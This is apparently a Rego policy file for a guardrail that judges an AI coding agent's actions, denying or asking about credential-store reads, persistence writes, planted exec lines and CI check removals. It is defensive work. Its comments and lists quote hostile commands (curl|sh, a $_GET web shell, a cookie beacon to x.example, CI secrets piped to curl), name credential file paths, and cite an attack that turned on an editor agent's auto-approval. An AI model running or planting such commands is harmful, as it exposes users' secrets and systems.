# Path rules: every tool that reads or writes a path (file tools, and shell commands through
# the shell analyzer's path facts). Classes are computed in Rust (hookward-facts).
package hookward.rules.paths

import data.hookward.lib

# @rule path/credential-store deny
# Reading or changing a credential store under any home (case-folded): ~/.ssh, ~/.aws, ~/.gnupg,
# ~/.config/gcloud, ~/.kube/config, ~/.docker/config.json, keychains, browser profiles and cookies,
# shell history; secret files by name anywhere (id_rsa, .netrc, .pgpass, *.p12, *.kdbx,
# service-account*.json, token-bearing .npmrc/.pypirc); registry and storage clients' token files in
# any home (~/.npmrc, ~/.pypirc, ~/.gem/credentials, ~/.config/rclone/rclone.conf…) and browser
# profile files by name (Cookies, Login Data, logins.json, key4.db); secrets by shape in an
# application's folder of any home or a service's /etc/<app>/ folder (a secret's extension: .token,
# .pin, .password; a secrets/credentials folder; a secret-named file: /etc/trino/password.db).
# Table: hookward-facts/src/secrets.rs.
# A secret-named file in a temporary folder (class temp_copy: /tmp/certificate.p12, not a home
# that lies under /tmp) is a job's working copy: removing it, or using it after this same
# command wrote it, is not reaching somebody's credentials; reading one the command did not
# write is still denied, and every exfiltration rule still sees it as a credential. A key
# handed to the client that signs in with it (ssh -i KEY, scp/sftp -i, -o IdentityFile=KEY,
# ssh-add KEY, also through GIT_SSH_COMMAND or core.sshCommand) is used, not read out; a new key
# pair written by ssh-keygen where nothing answers its overwrite question replaces nothing.
decision contains {"id": "path/credential-store", "decision": "deny", "reason": reason} if {
	some p in input.facts.paths
	"credential" in p.classes
	not new_folder(p)
	not temp_working_copy(p)
	not metadata_read(p)
	not lib.handed_token_read(p)
	not lib.identity_use(p)
	not new_key(p)
	not owner_only_chmod(p)
	not public_part(p)
	reason := sprintf("%s would %s %s, a credential store", [lib.how(p), lib.verb(p), p.path])
}

# A key or key store opened by a program form that shows only its public part or metadata, or
# keeps it in a keychain without printing it (solana-keygen pubkey, cast wallet address,
# age-keygen -y, security show-keychain-info, security import;
# hookward-shell programs/public_parts.rs): no secret byte reaches the agent (session 27).
public_part(p) if {
	p.via == "shell"
	p.access == "read"
	endswith(p.how, " shows-public")
}

# A credential store's permissions closed to everyone but its owner (chmod 600 ~/.ssh/id_rsa,
# chmod 700 ~/.foundry/keystores, chmod go-rwx key.json; hookward-shell files.rs
# owner_only_mode records it as `chmod private`): ssh(1) refuses a private key others can read
# ("UNPROTECTED PRIVATE KEY FILE"), so this fix is everyday; nothing is read, and nothing is
# opened to anyone (session 27).
owner_only_chmod(p) if {
	p.via == "shell"
	p.access == "chmod"
	p.how == "chmod private"
}

# A key pair made by ssh-keygen (ssh-keygen -t ed25519 -f ~/.ssh/id_new -N ""): hookward-shell
# records the key and its .pub as created only when nothing answers ssh-keygen's "Overwrite
# (y/n)?" question on standard input, so no existing key is replaced (a piped or here-string
# answer makes them writes, still denied); a new key holds nothing anybody had.
new_key(p) if {
	p.via == "shell"
	p.access == "create"
	p.how == "ssh-keygen"
	not "system" in p.classes
}

# Programs that show a file's name, size, times, mode or type, never its bytes (stat(1),
# ls(1), test(1), realpath(1), readlink(1), file(1), du(1)): `stat ~/.ssh/authorized_keys`
# checks a permission, it reads no key. An upload in the same command is still judged by the
# exfiltration rules, which see every read.
metadata_readers := {"stat", "ls", "test", "realpath", "readlink", "file", "du", "basename", "dirname"}

metadata_read(p) if {
	p.via == "shell"
	p.access == "read"
	p.how in metadata_readers
}

# A credential-named file in a temporary folder that the shell command removes (cleanup after a
# signing step: rm /tmp/app.p12) or writes itself before it reads it (base64 -d > /tmp/c.p12 &&
# security import /tmp/c.p12): temporary folders hold nothing durable, and a file this command
# made holds what the command put there.
temp_working_copy(p) if {
	"temp_copy" in p.classes
	p.via == "shell"
	p.access == "delete"
}

temp_working_copy(p) if {
	"temp_copy" in p.classes
	p.via == "shell"
	some q in input.facts.paths
	q.path == p.path
	q.via == "shell"
	q.access in {"create", "write"}
}

# A folder made by mkdir (mkdir -p ~/.ssh/sockets, mkdir -p ~/Code): empty, so nothing is read,
# changed or replaced.
new_folder(p) if {
	p.via == "shell"
	p.access == "create"
	p.how == "mkdir"
}

# A file or folder made by mktemp (mktemp -d "$HOME/.bootstrap.XXXXXX", mktemp -p "$DIR"): a new
# empty entry under a name nobody had, created exclusively (mktemp(1): it fails rather than
# reuse a name), so nothing is read, changed or replaced; what is later written into it is judged.
new_folder(p) if {
	p.via == "shell"
	p.access == "create"
	p.how == "mktemp"
}

# @rule path/ssh-client-config ask
# Reading or changing the SSH client configuration (~/.ssh/config, config.d): host names, users and options, never a key (ssh_config(5)); a ProxyCommand or LocalCommand written there runs at the next ssh.
decision contains {"id": "path/ssh-client-config", "decision": "ask", "reason": reason} if {
	some p in input.facts.paths
	"ssh_client_config" in p.classes
	reason := sprintf("%s would %s %s, the SSH client configuration (hosts and users, no key)", [lib.how(p), lib.verb(p), p.path])
}

# @rule path/env-file ask
# Reading or changing a .env file (secrets by convention); templates such as .env.example are exempt, and so is copying a template into place (cp .env.example .env).
decision contains {"id": "path/env-file", "decision": "ask", "reason": reason} if {
	some p in input.facts.paths
	"env_file" in p.classes
	not "credential" in p.classes
	not env_from_template(p)
	reason := sprintf("%s would %s %s, which usually holds secrets", [lib.how(p), lib.verb(p), p.path])
}

# @rule path/remote-app-secrets ask
# Reading, on another host or in a container, a deployed application's configuration that holds its database password and keys (wp-config.php, Drupal settings.php and settings.local.php, Joomla configuration.php, LocalSettings.php, Magento app/etc/env.php, config/database.yml, config/master.key, patroni.yml, debian.cnf, .my.cnf, cPanel's .accesshash) or a file named for a secret (.steam_publisher_key, .vault-token, db_password), or an Android app's private storage (/data/data/<package>/shared_prefs, through adb shell su -c): ssh web 'cat /var/www/html/wp-config.php' prints the production secrets into the agent's context. The project's own copy here is the agent's work and is not asked about (hookward-facts lib.rs remote_secret_reads).
decision contains {"id": "path/remote-app-secrets", "decision": "ask", "reason": reason} if {
	some p in input.facts.paths
	"app_secrets" in p.classes
	reason := sprintf("%s would read %s on another host or in a container, a file that holds an application's secrets", [lib.how(p), p.path])
}

# A copy of committed templates into place (cp .env.example .env, install -m 600 .env.sample
# .env): the new file holds the template's text, so no secret is read or written.
env_from_template(p) if {
	p.via == "shell"
	p.access in {"create", "write"}
	src_how := concat(" ", [trim_suffix(p.how, " dest"), "src"])
	srcs := [q | some q in input.facts.paths; q.how == src_how]
	count(srcs) > 0
	count([q | some q in srcs; not "env_template" in q.classes]) == 0
}

# @rule path/write-outside-project ask
# Changing a file outside the project directory and the temporary directories (the agent's own auto-memory folder is its to write; the context rules check what goes in). Writes into a program's cache or settings/state folder under any home (`~/.cache`, `~/.npm`, `~/.cargo/registry`, `~/.config/<tool>`, `~/.local/share/<tool>`, `~/Library/Caches`…; table: hookward-facts/src/tooldata.rs, code-loading folders excluded) are that program's normal use; deleting tool data still asks; deleting another project's build output or cache folder (`~/src/other/target`, `node_modules`; class build_output) does not. A folder made by mkdir is empty and replaces nothing (mkdir fails on an existing name, -p leaves it), so it is not asked about; what is later written into it is. The user's own data is not asked about either (own_data_write): a file or folder created, written or re-moded in a visible folder of the user's own areas, or a search-and-delete narrowed by name there; hidden components, code-loading folders, scripts and programs by extension, build files, system directories and other homes still ask, and so does deleting a named file.
decision contains {"id": "path/write-outside-project", "decision": "ask", "reason": reason} if {
	some p in lib.changed_paths
	"outside_project" in p.classes
	not "temp" in p.classes
	not "agent_memory" in p.classes
	not quiet_tool_write(p)
	not new_folder(p)
	not new_key(p)
	not "credential" in p.classes
	not "block_device" in p.classes
	not "process_secret" in p.classes
	not "hookward_home" in p.classes
	not "agent_settings" in p.classes
	not own_data_write(p)
	reason := sprintf("%s would %s %s, outside the project %s", [lib.how(p), lib.verb(p), p.path, lib.project])
}

# A change outside the project that is the user's everyday work with their own data (issue 11,
# benign side; adv19–adv26, spent): a file or folder created or written, or its permissions
# set, in a visible folder of the user's own areas (`~/cases/42/notes.md`, `/data/run7/qc.tsv`,
# `/scratch/me/archive/x.tgz`, another clone `~/src/other/README.md`), or a search-and-delete
# narrowed by name there (find ~/Downloads -name '*.dmg' -mtime +30 -delete). What runs later
# or changes a program's behaviour still asks: a hidden component (dotfiles and dot-folders:
# shell rc files, `.git/hooks`, `.github/workflows`, `.config/autostart`), a folder programs
# load code from (own_code_folders: `bin`, `Library`, `node_modules`, `site-packages`…), a
# script or binary by its extension (runnable_extensions), a build or install file that runs
# code (own_build_files: Makefile, package.json, setup.py…); so do system directories, other
# users' homes, the home itself and its parents. Deleting a named file or folder still asks
# (shell/recursive-delete-outside-project denies a recursive one): only the filtered shape is
# quiet.
own_data_write(p) if {
	p.access in {"create", "write"}
	own_visible_place(p)
	not copies_runnable_into(p)
}

# Permissions and group of the user's own data set by mode, group or ACL (chmod 640 x.tsv,
# chgrp -R lab, setfacl -m g:lab:rX); file flags (chflags hidden, chattr +i: hidden,
# immutable or append-only files) still ask.
own_data_write(p) if {
	p.access == "chmod"
	p.how in {"chmod", "chmod private", "chgrp", "setfacl"}
	own_visible_place(p)
}

own_data_write(p) if {
	p.access == "delete"
	endswith(p.how, " filtered")
	not p.recursive
	own_visible_place(p)
}

own_visible_place(p) if {
	"outside_project" in p.classes
	count({c | some c in p.classes; c in not_own_places}) == 0
	parts := [c | some c in split(p.path, "/"); c != ""]
	count(parts) >= 2
	count([c | some c in parts; startswith(c, ".")]) == 0
	count([c | some c in parts; lower(c) in own_code_folders]) == 0
	not runnable_name(parts[count(parts) - 1])
}

# A copy or move into a folder (cp payload.sh /Volumes/share/): the file lands under its source's
# name, so a script or program copied there is judged by that name.
copies_runnable_into(p) if {
	endswith(p.how, " dest")
	src_how := concat(" ", [trim_suffix(p.how, " dest"), "src"])
	some q in input.facts.paths
	q.how == src_how
	names := [c | some c in split(q.path, "/"); c != ""]
	count(names) > 0
	runnable_name(names[count(names) - 1])
}

# Classes of places that are not the user's own data areas.
not_own_places := {"system", "home", "home_ancestor", "root", "homes", "other_home", "placeholder", "block_device", "credential", "secret_file", "process_secret", "agent_instructions", "mcp_config", "security_tool_config"}

# Folders that programs load and run code from without being asked: command folders on PATH,
# macOS's per-user Library (LaunchAgents, Application Support), package trees, autostart and
# init folders, git's hooks.
own_code_folders := {"bin", "sbin", "library", "launchagents", "launchdaemons", "node_modules", "site-packages", "dist-packages", "autostart", "init.d", "profile.d", "cron.d", "hooks", "plugins", "extensions", "startup"}

# A script or program by its name: shell, interpreter and compiled-program extensions, and the
# build and install files whose code runs when a tool does.
runnable_name(name) if {
	parts := split(lower(name), ".")
	count(parts) > 1
	parts[count(parts) - 1] in runnable_extensions
}

runnable_name(name) if lower(name) in own_build_files

runnable_extensions := {"sh", "bash", "zsh", "fish", "ksh", "csh", "py", "pyw", "pth", "rb", "pl", "pm", "php", "js", "mjs", "cjs", "ts", "ps1", "psm1", "bat", "cmd", "command", "vbs", "jar", "so", "dylib", "dll", "exe", "app", "desktop", "service", "timer", "plist", "scpt", "applescript", "lua", "tcl", "el", "vim", "r"}

own_build_files := {"makefile", "gnumakefile", "justfile", "package.json", "setup.py", "setup.cfg", "pyproject.toml", "conftest.py", "rakefile", "gemfile", "build.rs", "build.gradle", "build.gradle.kts", "pom.xml", "cmakelists.txt", "dockerfile", "docker-compose.yml", "compose.yaml", "vagrantfile", "tiltfile", "taskfile.yml"}

# A write into a tool's cache, or a non-delete write into its settings/state folder.
quiet_tool_write(p) if "tool_cache" in p.classes

# A folder named for temporary or cached data in the user's own areas (lib.named_temporary).
quiet_tool_write(p) if lib.named_temporary(p)

# Deleting a project's build output or cache folder (class build_output: node_modules, target,
# __pycache__… inside a project folder; hookward-shell/src/buildout.rs): the build makes it
# again. Writing into one is still asked about (node_modules holds code that runs).
quiet_tool_write(p) if {
	"build_output" in p.classes
	p.access == "delete"
}

quiet_tool_write(p) if {
	"tool_data" in p.classes
	p.access != "delete"
}

# @rule path/persistence deny
# A file tool (Write, Edit, apply_patch) writing a file that something runs later without asking, the same files shell/persistence judges for the shell's writes: shell rc files of any home (~/.bashrc, ~/.zshrc, ~/.profile, /etc/profile.d/*), crontabs and cron folders, systemd/launchd/autostart units, init scripts, authorized_keys of any user, /etc/ld.so.preload, the account databases; and sudoers (/etc/sudoers*, /etc/doas.conf), which grants privileges. Table: hookward-shell/src/persist.rs.
decision contains {"id": "path/persistence", "decision": "deny", "reason": reason} if {
	some f in object.get(input.facts, "installs", [])
	install_denied(f)
	reason := sprintf("the %s tool would write %s, %s; the same write by the shell is denied too", [f.tool, f.path, install_what(f)])
}

install_denied(f) if f.privilege

install_denied(f) if f.kind in lib.persistence_deny_kinds

install_what(f) := "which grants administrator rights (sudoers)" if {
	f.privilege
} else := "which lets the keys in it log in as that user (ssh_authorized_keys)" if {
	f.kind == "ssh_authorized_keys"
} else := sprintf("which runs later without anyone being asked (%s)", [f.kind])

# @rule path/runs-later ask
# A file tool writing a file that git or another program runs later, other than the kinds path/persistence denies: git hooks (.git/hooks/*, .husky/*); the SSH client configuration has its own rule (path/ssh-client-config). The same write by the shell asks too (shell/git-hooks).
decision contains {"id": "path/runs-later", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "installs", [])
	not install_denied(f)
	not f.kind in {"ssh_config", "shell_rc_plain"} # path/ssh-client-config, path/startup-file-edit ask about them
	reason := sprintf("the %s tool would write %s (%s), which runs later when git or another program triggers it", [f.tool, f.path, f.kind])
}

# @rule path/startup-file-edit ask
# A file tool adding lines to a shell start-up file (~/.bashrc, ~/.zshrc, ~/.profile …) that only set the shell up: aliases whose commands analyse as harmless, PATH given the user's own folders, the editor, options, completion, a local program's documented set-up line. Every new shell runs them, so the user is asked; anything else added there is path/persistence (deny). Judge: hookward-shell/src/persist.rs plain_startup_text.
decision contains {"id": "path/startup-file-edit", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "installs", [])
	f.kind == "shell_rc_plain"
	reason := sprintf("the %s tool would add lines to %s, which every new shell runs", [f.tool, f.path])
}

# @rule path/repo-history-delete ask
# Removing the project's own history store (rm -rf .git, .hg, .svn, .jj at the project root; a vendored or temporary clone's is not this): every commit, branch, tag and stash that was not pushed is gone, and the working tree stops being a checkout. Files inside it (.git/index.lock) are not this.
decision contains {"id": "path/repo-history-delete", "decision": "ask", "reason": reason} if {
	some p in input.facts.paths
	p.access == "delete"
	"vcs_store" in p.classes
	regex.replace(p.path, `/[^/]+$`, "") == input.facts.project_dir
	reason := sprintf("%s would delete %s, the repository's history (commits, branches and stashes not pushed anywhere are lost)", [lib.how(p), p.path])
}

# @rule path/editor-auto-approve deny
# A file tool's write that turns an editor agent's tool auto-approval on (chat.tools.autoApprove or chat.tools.global.autoApprove true in .vscode/settings.json, .cursor/settings.json or an editor's user settings): that agent then runs commands and edits files without asking anyone, the path planted instructions took in CVE-2025-53773 (hookward-facts lib.rs approval_off).
decision contains {"id": "path/editor-auto-approve", "decision": "deny", "reason": reason} if {
	some p in object.get(input.facts, "approval_off", [])
	reason := sprintf("the write would turn tool auto-approval on in %s: the editor's agent would then run commands without asking", [p])
}

# @rule path/planted-exec deny
# A file tool's write that plants, in code that runs when the project does, a run of downloaded or decoded code (OS.execute("sh", ["-c", "curl … | sh"]) in an editor plugin, system('curl … | sh') in an initializer, execute_process(COMMAND sh -c "wget -qO- … | bash") in CMakeLists.txt, exec(urlopen(…).read()) in a module) or a command built from a web request's input (system($_GET['c']): a web shell, MITRE ATT&CK T1505.003), or a send of the browser's cookies or stored tokens, the environment or a CI's secrets to another host (navigator.sendBeacon('https://x.example/c', document.cookie), fetch(URL, {body: localStorage.getItem('token')}), run: echo "${{ toJSON(secrets) }}" | curl -d @- URL; written.rs beacons, read in notebooks, web pages and YAML files too). Read line by line from the added text only; documents and Dockerfiles are not read, nor CI files except for beacons (hookward-facts src/written.rs); a CI step that opens the runner's shell to whoever connects (mxschmitt/action-tmate, action-upterm not limited to the actor) or hands secrets.* to a package downloaded and run on the spot that is not a well-known one (npx -y @x/deploy-helper --token ${{ secrets.DEPLOY_TOKEN }}) is denied too (h-runlater, hookward-facts src/run_later.rs ci_outsiders); Dockerfile RUN lines and the other files whose text runs later are judged by the shell rules as the commands they hold (run_later.rs). In a shell script (.sh, .zsh, rc files) a download run is asked about instead (path/planted-exec-script): the script runs when somebody runs it, and is judged again then.
decision contains {"id": "path/planted-exec", "decision": "deny", "reason": reason} if {
	some f in object.get(input.facts, "written_exec", [])
	planted_denied(f)
	reason := sprintf("the write would plant code that runs %s in %s (line %d: %s)", [planted_what[f.kind], f.path, f.line, f.evidence])
}

planted_denied(f) if f.kind == "request_input"

planted_denied(f) if f.kind == "beacon"

# h-switchoff29 (hookward-facts written.rs controls_off): a script line that switches a defence
# off as shell/defense-evasion would deny it (Add-MpPreference -ExclusionPath C:\, a GPO's
# DisableRealtimeMonitoring 1); a control off on this machine only (control_off) is asked about
# by path/planted-exec-script.
planted_denied(f) if f.kind == "defence_off"

# Session 25 (hookward-facts harmful_code.rs, written.rs exec_kind): a CI secret printed past
# masking or sent, a pwn request, fetched code installed to run again, a credential read and
# sent, a reverse shell: denied in scripts too, since whoever runs the script later may not be
# the agent.
planted_denied(f) if f.kind in {"secret_leak", "pwn_request", "fetched_persist", "secret_upload", "reverse_shell"}

# h-runlater (hookward-facts run_later.rs ci_outsiders): a CI step that opens the runner's shell
# to whoever connects (tmate, upterm not limited to the actor), or hands the repository's
# secrets to a package downloaded and run on the spot that is not one of its registry's
# well-known names.
planted_denied(f) if f.kind in {"remote_shell", "secret_to_unknown_package"}

planted_denied(f) if {
	not f.script
	f.kind != "external_script"
}

planted_what := {
	"fetched": "downloaded code",
	"decoded": "decoded code",
	"request_input": "what a web request or a chat command sends as a command",
	"beacon": "a send of cookies, stored tokens, credentials, the environment or secrets to another host",
	"secret_leak": "a print of CI secrets past the log's masking, or a send of them",
	"pwn_request": "a pull request's own code with the repository's secrets and write token (pull_request_target checking out the pull request's head)",
	"fetched_persist": "downloaded code, installed to run again on a schedule or at login",
	"secret_upload": "a read of credentials and a send of them",
	"reverse_shell": "a shell for a remote host",
	"remote_shell": "a shell on the CI runner for whoever connects to its session (not limited to the actor's keys)",
	"secret_to_unknown_package": "the repository's secrets handed to a package downloaded and run on the spot that is not one of its registry's well-known ones",
	"update_feed": "an update without its EdDSA signature, which every installed copy of the app downloads and installs (a Sparkle appcast enclosure)",
	"defence_off": "a command that switches a defence off (Defender, its exclusions, the firewall, audit logging, or a security control across many computers)",
	"control_off": "a command that switches a security control off on the machine that runs it",
}

# @rule path/secret-in-code ask
# A file tool's write that puts a live credential (a vendor token, cloud access key or private key by its shape: hookward-redact LIVE_KINDS; test-mode keys left out) into a project file that is not where secrets belong (env files, files named for secrets or credentials, key stores): source, settings and config files get committed, pushed and read by every tool that reads the project (OWASP ASVS 2.10.4 / CWE-798, hard-coded credentials). Env files and secret stores are not this (hookward-facts written.rs secrets_written).
decision contains {"id": "path/secret-in-code", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "written_secrets", [])
	not f.served
	reason := sprintf("the write would put a live credential (%s) into %s, a file that gets committed and read by other tools", [concat(", ", f.kinds), f.path])
}

# @rule path/secret-served deny
# A file tool's write that puts a live credential into a file served to every visitor or shipped in the app bundle (a public, static, www or assets folder, a web page, an Expo/React Native app manifest's extra): anyone who loads the page or unpacks the app reads it (CWE-798, CWE-200).
decision contains {"id": "path/secret-served", "decision": "deny", "reason": reason} if {
	some f in object.get(input.facts, "written_secrets", [])
	f.served
	reason := sprintf("the write would put a live credential (%s) into %s, which is served or shipped to anyone", [concat(", ", f.kinds), f.path])
}

# @rule path/ci-check-off ask
# A file tool's write that turns a CI check off: a test, lint, type check, audit or scan made to pass whatever it finds (run: pnpm test || true), a step allowed to fail (continue-on-error: true, GitLab allow_failure: true), a job or step switched off (if: false), a job's or step's condition made always true (if: true, where a guard stood), the job's token given write access to every scope (permissions: write-all), a third-party action used by a branch rather than a tag or commit (uses: someone/action@main; GitHub docs, "Using third-party actions"), or the pull_request_target trigger, which runs with the repository's secrets and write token (GitHub docs, "Security hardening for GitHub Actions", "Assigning permissions to jobs"). Also a security scanner's ignore or allow-list file given a pattern that matches every finding (.trivyignore `CVE-*`, a gitleaks allowlist path `.*`, a dependency-check suppression with cvssBelow 10 or more, a .semgrepignore `**`; hookward-facts written.rs scans_silenced). The checks are what stand between a change and the main branch or a release (hookward-facts written.rs ci_checks_off).
decision contains {"id": "path/ci-check-off", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "ci_checks_off", [])
	reason := sprintf("the write would turn a CI check off in %s (%s, line %d: %s)", [f.path, ci_off_words[f.what], f.line, f.evidence])
}

ci_off_words := {"scan_silenced": "a security scanner told to ignore every finding", "ignored_failure": "a failure made a success", "disabled": "a job or step switched off", "pull_request_target": "pull_request_target runs code with the repository's secrets", "write_all": "the job's token may write every scope", "guard_removed": "a job's or step's condition made always true", "unpinned_action": "a third-party action used by a branch, whose owner can change it at any time"}

# @rule path/access-opened ask
# A file tool's write that opens a database's or bucket's security rules to everybody: a Firebase rules file (firestore.rules, storage.rules, any *.rules) with `allow read, write: if true;` or a bare `allow …;`, a Realtime Database rules file with ".read": true or ".write": true (Firebase docs, "Fix insecure rules"; hookward-facts written.rs access_opened). Anyone with the project's public config can then read or change every record.
decision contains {"id": "path/access-opened", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "access_opened", [])
	reason := sprintf("the write would let anybody read or write the data %s guards (line %d: %s)", [f.path, f.line, f.evidence])
}

# @rule path/planted-exec-script ask
# A file tool's write of a shell script (.sh, .zsh, an rc file) with a line that runs downloaded or decoded code (source <(curl …), curl … | sh): asked about, since the script runs when somebody runs it (and running it is judged again, hookward-facts src/scripts.rs).
decision contains {"id": "path/planted-exec-script", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "written_exec", [])
	not planted_denied(f)
	f.kind != "external_script"
	reason := sprintf("the write would put a line that runs %s into the script %s (line %d: %s)", [planted_what[f.kind], f.path, f.line, f.evidence])
}

# @rule path/secret-file deny
# Reading a file named like a private key (*.pem, *.key, an ssh-keygen key of a chosen name: <name>_rsa, _ecdsa, _ed25519… without .pub, outside test data folders) outside the project. Certificates share the suffix, so inside the project it is path/secret-file-project (ask).
decision contains {"id": "path/secret-file", "decision": "deny", "reason": reason} if {
	some p in lib.read_paths
	"secret_file" in p.classes
	not carried(p)
	not lib.identity_use(p)
	not public_part(p)
	not metadata_read(p)
	"outside_project" in p.classes
	reason := sprintf("%s would read %s, which is named like a private key", [lib.how(p), p.path])
}

# @rule path/secret-staged ask
# A file named like a private key (*.pem, *.key, <name>_ed25519…) staged or stored in git (git add, git add -f, git hash-object -w): once committed and pushed, every clone and fork holds the key, and removing it needs a history rewrite and a new key (GitHub Docs, "Removing sensitive data from a repository"). Names that say certificate, chain, public key or CA are certificates, not this. A staged file whose content holds a live credential is path/credential-store (hookward-facts stages_live_secret).
decision contains {"id": "path/secret-staged", "decision": "ask", "reason": reason} if {
	some p in lib.read_paths
	p.how in {"git carried", "git forced carried"}
	"secret_file" in p.classes
	not certificate_named(p.path)
	reason := sprintf("the command would stage %s, which is named like a private key, into git history", [p.path])
}

# A file name that says it holds a certificate or a public key (cert.pem, fullchain.pem,
# ca-bundle.crt, server.pub.pem, public.key, root_ca.pem).
certificate_named(path) if regex.match(`(?i)(?:cert|crt|chain|public|pubkey|bundle)[^/]*$`, path)

certificate_named(path) if regex.match(`(?i)(?:^|/|[-_.])ca(?:[-_.][^/]*)?$`, path)

# A file operand of a program that carries content elsewhere (openssl -in, git add, gpg, docker cp;
# hookward-shell programs/carriers.rs): only named credentials count there, since certificates
# share the *.pem/*.key names (openssl x509 -in cert.pem).
carried(p) if endswith(p.how, " carried")

# @rule path/secret-file-project ask
# Reading a file named like a private key (*.pem, *.key, <name>_ed25519…) inside the project: a certificate or a test fixture, or a real key. A key in the home or the project handed to the client that signs in with it (ssh -i KEY, scp/sftp -i, -o IdentityFile=KEY, ssh-add KEY) is used, not read out, as for path/credential-store.
decision contains {"id": "path/secret-file-project", "decision": "ask", "reason": reason} if {
	some p in lib.read_paths
	"secret_file" in p.classes
	not carried(p)
	not lib.identity_use(p)
	not public_part(p)
	not metadata_read(p)
	not "outside_project" in p.classes
	reason := sprintf("%s would read %s, which is named like a private key (a certificate or a test key would be fine)", [lib.how(p), p.path])
}

# @rule path/process-memory deny
# Reading or writing another process's environment or memory, or the kernel's (/proc/<pid>/environ, /proc/<pid>/mem, /proc/kcore, /dev/mem): secrets of other programs.
decision contains {"id": "path/process-memory", "decision": "deny", "reason": reason} if {
	some p in input.facts.paths
	"process_secret" in p.classes
	reason := sprintf("%s would %s %s, another process's environment or memory", [lib.how(p), lib.verb(p), p.path])
}

# @rule path/process-info ask
# Reading another process's command line or memory map (/proc/<pid>/cmdline, /proc/<pid>/maps): tokens are often passed as arguments.
decision contains {"id": "path/process-info", "decision": "ask", "reason": reason} if {
	some p in input.facts.paths
	"process_info" in p.classes
	reason := sprintf("%s would %s %s, another process's command line or memory map", [lib.how(p), lib.verb(p), p.path])
}

# @rule path/raw-disk deny
# Writing, formatting, partitioning or erasing a raw block device (/dev/sd*, /dev/nvme*, /dev/disk*, /dev/mapper/*), or reading one (imaging a disk reads every file on it, secrets included).
decision contains {"id": "path/raw-disk", "decision": "deny", "reason": reason} if {
	some p in input.facts.paths
	"block_device" in p.classes
	p.access in lib.modifying
	reason := sprintf("%s would %s the raw disk %s, destroying what is on it", [lib.how(p), lib.verb(p), p.path])
}

decision contains {"id": "path/raw-disk", "decision": "deny", "reason": reason} if {
	some p in lib.read_paths
	"block_device" in p.classes
	reason := sprintf("%s would read the raw disk %s, every file on it (secrets included)", [lib.how(p), p.path])
}

# Target classes that make a new link worth a question: reads and writes through the link reach the location under another name.
link_protected := {"credential", "secret_file", "env_file", "process_secret", "block_device", "mcp_config", "security_tool_config", "home", "home_ancestor", "root"}

# @rule path/link-to-protected ask
# A shell command creating a link to a protected location (a credential store, key or .env file, another process's memory, a raw disk, MCP server config, another security tool's config, the home or a parent of it). Links to hookward's home or agent settings are self/link-to-guard (deny).
decision contains {"id": "path/link-to-protected", "decision": "ask", "reason": reason} if {
	some l in object.get(input.facts, "links", [])
	some c in link_protected
	c in l.target_classes
	not guard_link(l)
	reason := sprintf("the command would create %s as a link to %s (%s); reads and writes through the link reach it under another name", [l.link, l.target, c])
}

guard_link(l) if {
	some c in {"hookward_home", "agent_settings", "guard_folder"}
	c in l.target_classes
}

# h-ops21: the text a file tool writes (Write content, Edit/replace new_string, MultiEdit edits,
# str_replace_based_edit_tool's file_text/new_str).
written_texts contains t if {
	some k in {"content", "new_string", "file_text", "new_str"}
	t := input.event.tool.input[k]
	is_string(t)
}

written_texts contains t if {
	some e in input.event.tool.input.edits
	t := e.new_string
	is_string(t)
}

# @rule path/secret-values-served ask
# A file tool writing a configuration that shows secrets' values to every caller of a web endpoint: Spring Boot actuator's show-values ALWAYS for env, configprops or quartz (management.endpoint.env.show-values: ALWAYS; Spring Boot docs, "Sanitize Sensitive Values": values are masked unless shown, ALWAYS shows them to unauthenticated users too). WHEN_AUTHORIZED and NEVER are not asked about.
decision contains {"id": "path/secret-values-served", "decision": "ask", "reason": reason} if {
	count(lib.changed_paths) > 0
	input.event.tool.kind == "file_write"
	some t in written_texts
	regex.match(`(?i)show-values["']?\s*[:=]\s*["']?always\b`, t)
	reason := sprintf("the %s tool would make a web endpoint show secrets' values to every caller (show-values: ALWAYS)", [input.event.tool.name])
}
